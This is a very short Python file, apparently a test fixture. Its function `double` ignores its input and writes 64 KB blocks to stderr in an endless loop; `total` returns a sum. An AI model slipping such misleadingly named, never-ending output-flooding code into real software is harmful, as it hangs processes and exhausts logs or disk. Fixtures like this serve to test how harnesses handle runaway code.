import os


def double(x):
    while True:
        os.write(2, b"x" * 65536)


def total(x):
    return x.sum()
